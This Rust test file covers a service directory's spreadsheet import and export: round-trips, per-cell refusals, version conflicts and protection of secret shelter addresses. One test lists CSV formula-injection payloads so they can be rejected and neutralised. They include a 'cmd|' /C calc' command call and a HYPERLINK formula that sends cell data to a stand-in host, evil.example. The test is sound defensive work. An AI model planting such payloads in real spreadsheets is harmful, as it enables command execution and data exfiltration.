use std::{
    collections::{BTreeMap, BTreeSet},
    path::Path as File,
};

use proptest::prelude::*;

use super::{
    super::{super::import::Directory, export::table},
    *,
};
use crate::{
    domain::{
        change::Kind,
        draft::{Draft, testing::service},
        field::Field,
        locale::Locale,
        location::Location,
        service::{Filed, Service},
    },
    spreadsheet::{self, Column, Format, Outcome, Refused},
};

const DAY: &str = "2026-12-01";

fn on_file(services: &[(Service, i64)]) -> OnFile {
    let filed = |service: &Service| Filed { service: service.clone(), published: true, locked: false };
    OnFile {
        now: services.iter().map(|(service, version)| (service.id.clone(), (filed(service), *version))).collect(),
        then: BTreeMap::new(),
    }
}

fn planned(csv: &str, on_file: &OnFile) -> Vec<Planned> {
    let table = spreadsheet::read(csv.as_bytes()).unwrap().table;
    plan(&table, on_file, &DoNotPublish::default(), DAY.parse().unwrap())
}

/// What is refused, as `C3 name.en: …`.
fn refusals(planned: &[Planned]) -> Vec<String> {
    let refused = planned.iter().filter_map(|planned| match &planned.outcome {
        Outcome::Refused(refused) => Some(refused),
        _ => None,
    });
    let said = |refused: &Refused| {
        let cell = refused.cell.map(|cell| cell.to_string()).unwrap_or_default();
        let column = refused.column.map(Column::name).unwrap_or_default();
        let why = match &refused.why {
            Why::Cell(problem) => problem.message().to_owned(),
            Why::Text(wrong) => wrong.id().to_owned(),
            why => format!("{why:?}"),
        };
        format!("{cell} {column}: {why}")
    };
    refused.flatten().map(said).collect()
}

fn changed(planned: &Planned) -> Vec<Field> {
    match &planned.outcome {
        Outcome::Changed(differences) => differences.iter().map(|difference| difference.field).collect(),
        _ => Vec::new(),
    }
}

#[test]
fn the_whole_directory_comes_back_as_it_was() {
    let directory = Directory::read(File::new("data/directory")).unwrap();
    let services: Vec<(Service, i64)> = directory.services.iter().map(|filed| (filed.service.clone(), 1)).collect();
    let mut on_file = on_file(&services);
    for filed in &directory.services {
        on_file.now.insert(filed.service.id.clone(), (filed.clone(), 1));
    }
    let exported = table(services.clone().into_iter());
    for (format, locale) in [(Format::Csv, Locale::En), (Format::Csv, Locale::Fr), (Format::Xlsx, Locale::En)] {
        let read = spreadsheet::read(&spreadsheet::write(&exported, format, locale).unwrap()).unwrap();
        let planned = plan(&read.table, &on_file, &directory.do_not_publish, DAY.parse().unwrap());
        let same = planned.iter().filter(|planned| planned.outcome == Outcome::Same).count();
        assert_eq!((same, refusals(&planned)), (services.len(), Vec::new()), "{format:?} {locale:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(40))]
    #[test]
    fn whatever_a_listing_says_comes_back_as_it_was(words in "['=+@\\-]{0,2}[a-zé “”;,\"\n]{1,40}", name in "['=+@\\-]{0,2}[a-zA-Zé;,\"]{1,20}") {
        let mut draft = Draft::of(&service("a", "A"));
        draft.set("description.en".parse().unwrap(), words.as_str());
        draft.set("name.fr".parse().unwrap(), name.as_str());
        draft.set("notes".parse().unwrap(), words.as_str());
        // Not every text is one that a listing may have.
        if let Ok(parsed) = draft.parse(&DoNotPublish::default()) {
            let services = [(parsed.service, 4)];
            let exported = table(services.clone().into_iter());
            for (format, locale) in Format::ALL.into_iter().flat_map(|format| Locale::ALL.map(|locale| (format, locale))) {
                let read = spreadsheet::read(&spreadsheet::write(&exported, format, locale).unwrap()).unwrap();
                let planned = plan(&read.table, &on_file(&services), &DoNotPublish::default(), DAY.parse().unwrap());
                prop_assert_eq!(&planned[0].outcome, &Outcome::Same, "{:?} {:?}", format, locale);
            }
        }
    }
}

#[test]
fn a_cell_changes_its_text_and_a_missing_column_changes_nothing() {
    let before = service("a", "A");
    let planned = planned("id,name.en,free,phones.2.number,phones.2.kind\na,B,yes,807-345-5840,voice\n", &on_file(&[(before, 1)]));
    assert_eq!(changed(&planned[0]), [Field::Name, Field::Phones, Field::Free]);
    let proposed = planned[0].proposed.as_ref().unwrap();
    assert_eq!(proposed.draft.get("phones.2.number".parse().unwrap()), "+18073455840");
    assert_eq!((proposed.kind, proposed.base_version), (Kind::Update, 1));
}

#[test]
fn a_mistake_is_named_by_its_cell_and_the_other_rows_are_understood() {
    let mut file = on_file(&[(service("a", "A"), 3), (service("b", "B"), 1), (service("c", "C"), 1), (service("d", "D"), 1)]);
    file.now.get_mut(&ServiceId::parse("c").unwrap()).unwrap().0.locked = true;
    file.now.get_mut(&ServiceId::parse("d").unwrap()).unwrap().0.published = false;
    let ids = "id,version,name.en\na,3,=1+1\nnobody,,X\nb,,B\nc,,Changed\nd,,Changed\na,3,Again\nb two,,X\nb,9,B\n,,New place\nc,1,C\n";
    let found = refusals(&planned(ids, &file));
    let expected = [
        "A2 id: Twice(7)",
        "A3 id: NoListing",
        "A4 id: Twice(9)",
        "A5 id: Twice(11)",
        "A6 id: Hidden",
        "A7 id: Twice(2)",
        "A8 id: id",
        "A9 id: Twice(4)",
    ];
    assert_eq!(found[..expected.len()], expected, "{found:#?}");
    assert!(found.iter().any(|refusal| refusal == " organization.en: missing"), "a new listing without the column: {found:#?}");
    let found = refusals(&planned("id,version,name.en\na,3,=1+1\nb,9,B\nc,,Changed\n", &file));
    assert_eq!(found, ["C2 name.en: cell-like-formula", "B3 version: NoVersion", "A4 id: Locked"]);
    let texts = "id,phones.1.number,ages.min,url.en,languages,free,compiled_on,categories\n\
                 b,12,seven,ftp://x,klingon,perhaps,11/30/2026,dancing\n";
    let found = refusals(&planned(texts, &file));
    let expected = [
        "B2 phones.1.number: ",
        "C2 ages.min: age",
        "D2 url.en: ",
        "E2 languages: language",
        "F2 free: yes-no",
        "G2 compiled_on: date",
        "H2 categories: unknown",
    ];
    for expected in expected {
        assert!(found.iter().any(|refusal| refusal.starts_with(expected)), "{expected}: {found:#?}");
    }
    let outside = refusals(&planned("id,name.en\na,B,stray\n", &file));
    assert_eq!(outside, ["C2 : cell-no-column"]);
}

#[test]
fn no_formula_survives() {
    let starts = ["=", "+", "-", "@", "\t=", "\r="];
    let bodies = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"\"http://evil.example?\"\"&A1)", "SUM(A1:A9)", "IMPORTXML(A1)"];
    let formulas: Vec<String> = starts.iter().flat_map(|start| bodies.iter().map(move |body| format!("{start}{body}"))).collect();
    assert_eq!(formulas.len(), 30);
    let file = on_file(&[(service("a", "A"), 1)]);
    for formula in &formulas {
        let found = refusals(&planned(&format!("id,name.en\na,\"{formula}\"\n"), &file));
        assert_eq!(found, ["B2 name.en: cell-like-formula"], "{formula}");
    }
    // What a listing says all the same is written so that no program runs it.
    for formula in formulas {
        let mut draft = Draft::of(&service("a", "A"));
        draft.set("notes".parse().unwrap(), formula.replace("\"\"", "\""));
        let Ok(parsed) = draft.parse(&DoNotPublish::default()) else { continue };
        let exported = table([(parsed.service, 1)].into_iter());
        let csv = String::from_utf8(spreadsheet::write(&exported, Format::Csv, Locale::En).unwrap()).unwrap();
        let mut cells = csv::Reader::from_reader(csv.as_bytes());
        for record in cells.records() {
            assert!(record.unwrap().iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{formula}");
        }
    }
}

#[test]
fn what_was_changed_since_the_file_was_written_stays_changed() {
    let (then, mut now) = (service("a", "A"), service("a", "A"));
    now.free = Some(true);
    let mut file = on_file(&[(now.clone(), 2)]);
    file.then.insert((now.id.clone(), 1), Filed { service: then, published: true, locked: false });
    let meant = planned("id,version,name.en,free\na,1,B,\n", &file);
    assert_eq!(changed(&meant[0]), [Field::Name], "free was changed meanwhile, and not by this row");
    assert_eq!(meant[0].proposed.as_ref().unwrap().base_version, 2);
    let both = planned("id,version,name.en,free\na,1,A,no\n", &file);
    assert_eq!(refusals(&both), ["D2 free: Meanwhile"]);
    // Without a version, the file is taken as if it were written now.
    assert_eq!(changed(&planned("id,free\na,no\n", &file)[0]), [Field::Free]);
}

#[test]
fn a_secret_place_is_neither_opened_nor_told() {
    let mut secret = service("a", "A");
    secret.location = Some(Location::Private);
    let file = on_file(&[(secret, 1)]);
    let open = "id,location.secrecy,location.street,location.city,location.postal_code\na,public,12 Main Street,Kenora,P9N 1A1\n";
    assert_eq!(refusals(&planned(open, &file)), ["B2 location.secrecy: SecretPlace"]);
    let tells = planned("id,description.en\na,We are at 12 Main Street.\n", &file);
    assert_eq!(refusals(&tells), ["B2 description.en: SecretPlace"]);
    let new = "id,organization.en,name.en,description.en,location.secrecy,phones.1.number,phones.1.kind,service_area.scope,categories\n\
               ,B,B,A house at 12 Main Street,private,807-345-5840,voice,province,shelter\n";
    assert_eq!(refusals(&planned(new, &file)), ["D2 description.en: SecretPlace"]);
    assert!([open, new].iter().all(|csv| planned(csv, &file).iter().all(|planned| planned.proposed.is_none())));
}

#[test]
fn a_row_without_an_id_is_a_new_listing() {
    let csv = "id,organization.en,name.en,description.en,phones.1.number,phones.1.kind,service_area.scope,categories,url.en\n\
               ,Hope,Hope House,Beds for one night.,807-345-5840,voice,province,shelter,https://hope.example/\n";
    let planned = planned(csv, &OnFile::default());
    assert_eq!(planned[0].outcome, Outcome::New, "{:?}", refusals(&planned));
    let draft = &planned[0].proposed.as_ref().unwrap().draft;
    let said: BTreeSet<(&str, &str)> = ["compiled_on", "sources", "confidence"].map(|path| (path, draft.get(path.parse().unwrap()))).into();
    assert_eq!(said, [("compiled_on", DAY), ("confidence", "medium"), ("sources", "https://hope.example/")].into());
}
